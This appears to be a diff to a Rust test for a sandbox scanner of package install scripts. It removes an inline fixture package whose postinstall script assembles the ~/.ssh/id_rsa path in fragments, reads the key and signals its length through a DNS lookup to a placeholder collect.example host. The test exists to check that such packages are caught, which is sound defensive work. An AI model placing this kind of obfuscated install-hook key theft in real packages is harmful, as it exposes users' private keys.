@@ -94,19 +94,7 @@ async fn scan_runs_a_tarballs_install_scripts_in_the_sandbox() {
     let workspace = Workspace::new();
     let home = workspace.path("home");
     let tarball = workspace.path("quiet-helper-1.0.0.tgz");
-    // The key path and the host are assembled at run time: nothing on the page says
-    // `.ssh` or names a host.
-    let package = airlock_test::PackageBuilder::new("quiet-helper", "1.0.0")
-        .script("postinstall", "node build.js")
-        .file(
-            "build.js",
-            "const p = require('path'), f = require('fs');\n\
-             const parts = [process.env.HOME, ['.', 's', 's', 'h'].join(''), 'id_' + 'rsa'];\n\
-             let k = ''; try { k = f.readFileSync(p.join(...parts), 'utf8'); } catch (e) {}\n\
-             require('dns').resolve4(['k', k.length, 'collect', 'example'].join('.'), () => {});\n\
-             setTimeout(() => {}, 200);\n",
-        )
-        .build();
+    let package = attacks::quiet_key_thief().build();
     std::fs::write(&tarball, package.tarball).unwrap();
     let (code, output) = scan(&home, &[tarball.to_str().unwrap(), "--offline"]).await;
     assert_eq!(code, Some(1), "{output}");
